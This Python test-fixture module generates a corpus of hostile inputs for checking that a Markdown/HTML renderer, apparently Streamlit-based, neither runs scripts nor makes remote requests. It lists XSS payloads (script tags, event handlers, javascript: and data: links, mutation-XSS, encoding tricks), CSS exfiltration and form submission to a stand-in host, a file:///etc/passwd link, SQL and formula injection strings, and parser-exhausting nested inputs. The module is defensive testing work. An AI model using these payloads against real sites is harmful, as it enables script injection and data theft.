"""Hostile texts, made by code: what somebody might paste, or be sent, and what no page may run, fetch or choke on.

Every text carries a word of its own (``kept12``), by which a test sees that it is still there.
"""

from collections.abc import Iterator
from dataclasses import dataclass

RUN = "window.ran=1"
"""What every script here would do; a test looks for it."""

ELSEWHERE = "https://elsewhere.example"
"""Where every request here would go."""


@dataclass(frozen=True)
class Hostile:
    """One text, its kind, the word in it that must stay to be read, and whether it is huge or deep."""

    kind: str
    text: str
    word: str
    is_heavy: bool = False

    def __str__(self) -> str:
        return f"{self.kind}-{self.word}"


_SCRIPTS = [
    "<script>RUN</script>",
    "<SCRIPT\n>RUN</SCRIPT\n>",
    "<script src=ELSEWHERE/x.js></script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script/x>RUN</script >",
    "</title><script>RUN</script>",
    "</pre></code><script>RUN</script>",
    "</style><script>RUN</script>",
    "</main></body></html><script>RUN</script>",
    "<!--><script>RUN</script>-->",
    "<![CDATA[<script>RUN</script>]]>",
    "<?php echo '<script>RUN</script>' ?>",
    "<noscript><p title='</noscript><script>RUN</script>'>",
    "<textarea></textarea><script>RUN</script>",
    "<template><script>RUN</script></template>",
    "<script type=module>import 'ELSEWHERE/x.js'</script>",
    "<script>/*\n\n*/RUN</script>",
    "\u2028<script>RUN</script>",
]
_HANDLERS = [
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN' alt='a",
    "<IMG SRC=x ONERROR=&#119;indow.ran=1>",
    "<img/src=x/onerror=RUN>",
    "<img \x0csrc=x onerror=RUN>",
    "<body onload=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<details open ontoggle=RUN><summary>a</summary></details>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<marquee onstart=RUN>a</marquee>",
    "<div style='animation-name:x' onanimationstart=RUN>a</div>",
    '<a href="ELSEWHERE" onmouseover="RUN" onclick="RUN">a</a>',
    '<p title="a"onmouseover="RUN">a</p>',
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>a</maction></math>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<button popovertarget=x onclick=RUN>a</button>",
]
_LINKS = [
    "[a](javascript:RUN)",
    "[a](JaVaScRiPt:RUN)",
    "[a](java\tscript:RUN)",
    "[a](javascript&colon;RUN)",
    "[a](&#106;avascript:RUN)",
    "[a](&#x6A&#x61vascript:RUN)",
    "[a](\x01javascript:RUN)",
    "[a](<javascript:RUN>)",
    "[a]( javascript:RUN 'title')",
    "[a](javascript:RUN//https://example.com)",
    "[a](vbscript:RUN)",
    "[a](data:text/html,<script>RUN</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    "[a](data:image/svg+xml,<svg onload=RUN>)",
    "[a](blob:ELSEWHERE/x)",
    "[a](file:///etc/passwd)",
    "[a](//elsewhere.example/x)",
    "[a][b]\n\n[b]: javascript:RUN",
    "[a]\n\n[a]: <javascript:RUN> 'title'",
    "<javascript:RUN>",
    "<a href='javascript:RUN'>a</a>",
    "<a href=' &#14; javascript:RUN'>a</a>",
    '[a](https://example.com/"onmouseover="RUN)',
    "[a](https://example.com 'x\" onmouseover=\"RUN')",
    "[<img src=x onerror=RUN>](https://example.com)",
    "[a](https://example.com/`<script>RUN</script>`)",
    "[![a](ELSEWHERE/x.png)](javascript:RUN)",
    "[a](javascript:/*--></title></style></textarea></script><svg/onload=RUN>)",
]
_IMAGES = [
    "![a](ELSEWHERE/x.png)",
    "!![a](ELSEWHERE/x.png)",
    "!!![a](ELSEWHERE/x.png)",
    "\\![a](ELSEWHERE/x.png)",
    "\\\\![a](ELSEWHERE/x.png)",
    "![a][b]\n\n[b]: ELSEWHERE/x.png",
    "![b]\n\n[b]: ELSEWHERE/x.png",
    "![a](<ELSEWHERE/x.png>)",
    "![a](data:image/svg+xml,<svg/onload=RUN>)",
    '![a](x"onerror="RUN)',
    "![a](ELSEWHERE/x.png =10x10)",
    "`![a](ELSEWHERE/x.png)`",
    "` ` ![a](ELSEWHERE/x.png) `",
    "\\`![a](ELSEWHERE/x.png)`",
    "``` a`b\n![a](ELSEWHERE/x.png)\n```",
    "- a\n  ```\n![a](ELSEWHERE/x.png)\n  ```",
    "> ```\n![a](ELSEWHERE/x.png)\n> ```",
    "```\n![a](ELSEWHERE/x.png)\n~~~\n![b](ELSEWHERE/y.png)",
    "<script>\n```\n</script>\n![a](ELSEWHERE/x.png)\n```",
    "$$\n```\n$$\n![a](ELSEWHERE/x.png)\n```",
    ":::x\n```\n:::\n![a](ELSEWHERE/x.png)\n```",
    "| ` | ![a](ELSEWHERE/x.png) ` |\n|---|---|\n| b | c |",
    "[a](b`c) ![a](ELSEWHERE/x.png) `",
    "www.example.com/`a ![a](ELSEWHERE/x.png) `",
    "[^a]\n\n[^a]: ![a](ELSEWHERE/x.png)",
    "a\r```\r![a](ELSEWHERE/x.png)\r```\r![b](ELSEWHERE/y.png)",
    "<img src=ELSEWHERE/x.png>",
    "<picture><source srcset=ELSEWHERE/x.png></picture>",
    "<video poster=ELSEWHERE/x.png src=ELSEWHERE/x.mp4 autoplay></video>",
]
_STYLES = [
    "<style>@import url(ELSEWHERE/x.css);</style>",
    "<style>body{display:none}</style>",
    "<style>*{background:url(ELSEWHERE/x.png)}</style>",
    "<style>input[value^=a]{background:url(ELSEWHERE/a)}</style>",
    "<link rel=stylesheet href=ELSEWHERE/x.css>",
    "<link rel=prefetch href=ELSEWHERE/x>",
    "<p style='background:url(ELSEWHERE/x.png)'>a</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>a</p>",
    "<p style='width:expression(RUN)'>a</p>",
    "<div style='-moz-binding:url(ELSEWHERE/x.xml#a)'>a</div>",
    "<table background=ELSEWHERE/x.png><tr><td>a</td></tr></table>",
    "<font color=red size=7>a</font>",
    "<p class=stApp id=root>a</p>",
]
_FRAMES = [
    "<iframe src=ELSEWHERE></iframe>",
    "<iframe src=javascript:RUN></iframe>",
    "<frameset><frame src=ELSEWHERE></frameset>",
    "<object data=ELSEWHERE/x.swf></object>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src=ELSEWHERE/x.swf>",
    "<applet code=x archive=ELSEWHERE/x.jar></applet>",
    "<meta http-equiv=refresh content='0;url=ELSEWHERE'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "<base href=ELSEWHERE/><a href=x>a</a>",
    "<form action=ELSEWHERE><input name=a><button>a</button></form>",
    "<form id=f action=javascript:RUN></form><button form=f>a</button>",
    "<portal src=ELSEWHERE></portal>",
    "<dialog open>a</dialog>",
    "<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script></xml>",
]
_MUTATIONS = [
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    "<math><mi><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<noembed><img title='</noembed><img src=x onerror=RUN>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "<svg><desc><p title='</svg><img src=x onerror=RUN>'></desc></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></iframe></foreignObject></svg>",
    "<svg><a xlink:href=javascript:RUN><text x=9 y=9>a</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:RUN /></svg>",
    "<svg><set attributeName=onmouseover to=RUN></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN/>#x'/></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><image href=ELSEWHERE/x.png /></svg>",
    "<b><i></b></i><table><a><tr><td></a></table>",
    "<p><p></p></p></div></div></div></section>",
    "<div><div><div><div",
    "<a href='",
    '<a <a <a <b title="',
    "<!-- never closed",
    "<![CDATA[ never closed",
    "</",
    "<!DOCTYPE html><html><head>",
    "<plaintext>",
    "<title>a</title>",
    "<x-y is=script>a</x-y>",
]
_ENTITIES = [
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&#x3c;img src=x onerror=RUN&#x3e;",
    "\\<script\\>RUN\\</script\\>",
    "\\\\<script>RUN</script>",
    "&#0; &#xD800; &#x110000; &#99999999999; &nope; &",
    "%3Cscript%3ERUN%3C/script%3E",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\x02klzzwxh:0001\x03 \x02amp\x03 wzxhzdk:0",
]
_STREAMLIT = [
    ":red[RUN]",
    ":red-background[a] :blue-badge[b] :rainbow[c]",
    ":material/delete: :material/home:",
    ":smile: :+1: :100: :1234:",
    ":streamlit:",
    "::leaf[a]{onclick=RUN}",
    ":text[a]{onclick=RUN style='color:red' .stApp #root}",
    ":::red\na\n:::",
    ":small[a] :shimmer[b]",
    "$x^2$ and $$\\int_0^1$$",
    "$\\href{javascript:RUN}{a}$ $\\includegraphics{ELSEWHERE/x.png}$",
    "$\\def\\a{\\a\\a}\\a$",
    "\\$x\\$ \\\\$y\\\\$",
    "# one\n\ntwo\n===\n\nthree\n---",
    "###### six\n####### seven",
    "[a](#root) <a name=root>b</a>",
    "- [ ] a\n- [x] b",
    "a -> b <- c -- d",
    "`:red[a]` `$b$` ``c`d``",
    "| a | b |\n|---|---|\n| :red[c] | <script>RUN</script> |",
    "| a |\n|---|\n| b | c too many | d |",
]
_LETTERS = [
    "\u202eRUN\u202d \u2066a\u2067b \u2069 c",
    "\u202e\u202e\u202e\u202e never closed",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "Z\u0351\u036b\u0343\u0363" * 40,
    "\ufdfd \ufdd0 \uffff \ue000 \U0010ffff",
    "\x00 \x01 \x07 \x08 \x0b \x0c \x1b[31m \x7f \x85",
    "\u05e9\u05dc\u05d5\u05dd abc \u0645\u0631\u062d\u0628\u0627 <b>x</b>",
    "\u2028 \u2029 \r \r\n \t \v",
    "\u0130\u0131\u017f\ufb03\u1e9e \uff41\uff42",
    '=HYPERLINK("ELSEWHERE") @SUM(1) +1 -1',
    "'; DROP TABLE reflection; --  %s {0} {{x}} ${y} <%= z %>",
    "javascript:RUN",
    "C:\\new\\table\\\\ \\u0041 \\x41",
]
KINDS = {
    "script": _SCRIPTS,
    "handler": _HANDLERS,
    "link": _LINKS,
    "image": _IMAGES,
    "style": _STYLES,
    "frame": _FRAMES,
    "mutation": _MUTATIONS,
    "entity": _ENTITIES,
    "streamlit": _STREAMLIT,
    "letters": _LETTERS,
}

_DEEP = {
    "list": "\n".join("  " * level + "- a" for level in range(990)),
    "list-of-four": "\n".join("    " * level + "- a" for level in range(690)),
    "list-of-tabs": "\n".join("\t" * level + "1. a" for level in range(1000)),
    "list-in-a-line": "- " * 1000 + "a",
    "numbers-in-a-line": "1. " * 1000 + "a",
    "quote": ">" * 1000 + " a",
    "quote-spaced": "> " * 1000 + "a",
    "quote-and-list": "> - " * 1000 + "a",
    "quotes-growing": "\n".join("> " * level + "a" for level in range(300)),
    "brackets": "[" * 1000 + "a" + "]" * 1000,
    "brackets-of-links": "[" * 500 + "a" + "](https://example.com)" * 500,
    "images": "![" * 500 + "a" + "](x)" * 500,
    "parentheses": "[a](" + "(" * 1000 + ")" * 1000,
    "stars": "*" * 1000 + "a" + "*" * 1000,
    "stars-and-words": "*a **b " * 2000,
    "underscores": "_a __b " * 2000,
    "mixed": "*a_b " * 3000,
    "ticks": "".join("`" * length + "a" for length in range(200)),
    "tildes": "~a~~ " * 2000,
    "tags": "<div>" * 1000 + "a" + "</div>" * 1000,
    "tags-open": "<a href=x " * 2000,
    "comments": "<!-- " * 2000,
    "entities": "&a" * 5000,
    "backslashes": "\\" * 5000,
    "rules": "---\n" * 3000,
    "headings": "# a\n" * 2000,
    "setext": "a\n===\n" * 2000,
    "fences": "```\n" * 2001,
    "fences-growing": "\n".join("`" * length for length in range(3, 250)),
    "containers": ":::x\n" * 1000,
    "directives": ":red[" * 1000,
    "pipes": "|" * 5000 + "\n" + "|-" * 2500,
    "rows": "| a | b |\n|---|---|\n" + "| c | d |\n" * 2000,
    "references": "".join(f"[a{n}]: https://example.com\n" for n in range(1500)) + "[a1]" * 500,
    "footnotes": "".join(f"[^{n}]: a\n" for n in range(500)) + "".join(f"[^{n}]" for n in range(500)),
    "lines": "\n" * 20_000,
    "breaks": "a  \n" * 5000,
    "mails": "a@b.cd " * 3000,
    "addresses": "www.example.com " * 3000,
    "one-word": "a" * 60_000,
}
_HUGE = {
    "words": "word " * 199_000,
    "lines": "a line of words\n" * 62_000,
    "one-word": "x" * 995_000,
    "brackets": "[a](" * 240_000,
    "tags": "<b>" * 330_000,
    "list": "- a\n" * 240_000,
}
"""About a megabyte each, which is the longest a text of the journal may be."""


def _filled(template: str) -> str:
    return template.replace("RUN", RUN).replace("ELSEWHERE", ELSEWHERE)


def corpus() -> Iterator[Hostile]:
    """Every text: each trick by itself, some in a list, a quote or a heading; then the deep and the huge."""
    number = 0

    def kept() -> str:
        nonlocal number
        number += 1
        return f"kept{number}"

    for kind, templates in KINDS.items():
        for place, template in enumerate(templates):
            word, text = kept(), _filled(template)
            yield Hostile(kind, f"{word} before\n\n{text}\n\nand after", word)
            if place % 3 == 0:
                word = kept()
                frame = ("- {}", "> {}", "## {}", "**{}**", "a {} b", "| a |\n|---|\n| {} |")[number % 6]
                yield Hostile(f"{kind} in a frame", f"{frame.format(text)}\n\n{word}", word)
    for kind, text in _DEEP.items():
        word = kept()
        yield Hostile(f"deep {kind}", f"{word}\n\n{text}", word, is_heavy=True)
    for kind, text in _HUGE.items():
        word = kept()
        yield Hostile(f"huge {kind}", f"{word}\n\n{text}", word, is_heavy=True)


CORPUS = tuple(corpus())
